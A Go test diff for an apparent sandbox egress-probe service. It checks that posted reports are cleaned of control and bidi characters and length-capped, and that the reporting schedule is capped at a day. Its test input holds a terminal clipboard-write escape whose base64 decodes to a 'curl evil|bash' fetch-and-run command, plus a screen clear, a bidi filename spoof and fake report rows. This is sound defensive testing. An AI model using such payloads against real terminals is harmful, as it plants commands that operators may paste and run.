@@ -111,3 +111,37 @@ func FuzzProbeAPI(f *testing.F) {
 		}
 	})
 }
+
+// TestProbeResultIsCleaned: a posted report is the sandbox's own text, and
+// it went into the history, the logs and `egressd report` as sent:
+// terminal escapes (an OSC 52 clipboard write, a screen clear), bidi
+// overrides that reorder what the operator reads, and lines that fake
+// report rows; and its schedule was the sandbox's, so a report claiming a
+// 100-year interval was never overdue. Text is cleaned of control and bidi
+// characters and capped; the schedule is capped at a day.
+func TestProbeResultIsCleaned(t *testing.T) {
+	ps := testProbes(t)
+	a := fetchPlan(t, ps, "agent-a")
+	dirty := "leak\x1b]52;c;Y3VybCBldmlsfGJhc2g=\x07\x1b[2J\r\n| tcp/x | PASS |\u202egnp.exe" + strings.Repeat("x", 10000)
+	rep := &selftest.Report{Results: []selftest.Result{{ID: "tcp/x\x1b[8m", Route: dirty, Target: dirty, Expected: dirty, Status: selftest.Leak, Result: dirty, Detail: dirty}},
+		Credentials: []selftest.Credential{{Kind: dirty, Name: dirty, Location: dirty}}}
+	b, _ := json.Marshal(map[string]any{"token": a.Token, "every_ns": int64(100 * 365 * 24 * time.Hour), "report": rep})
+	w := httptest.NewRecorder()
+	ps.api("agent-a", w, httptest.NewRequest("POST", "http://egressd.probe.invalid/v1/result", bytes.NewReader(b)))
+	if w.Code != http.StatusOK {
+		t.Fatalf("post: %d %s", w.Code, w.Body)
+	}
+	s := ps.ids["agent-a"]
+	r, c := s.last.Results[0], s.last.Credentials[0]
+	for _, f := range []string{r.ID, r.Route, r.Target, r.Expected, r.Result, r.Detail, c.Kind, c.Name, c.Location} {
+		if strings.ContainsAny(f, "\x1b\x07\r\n\u202e") || len(f) > 1100 {
+			t.Errorf("recorded as sent (%d bytes): %.80q", len(f), f)
+		}
+	}
+	if s.last.Outcome() != selftest.OutcomeLeak {
+		t.Errorf("outcome %s after cleaning, want leak", s.last.Outcome())
+	}
+	if s.every > 24*time.Hour {
+		t.Errorf("schedule %v taken from the sandbox, want at most a day", s.every)
+	}
+}
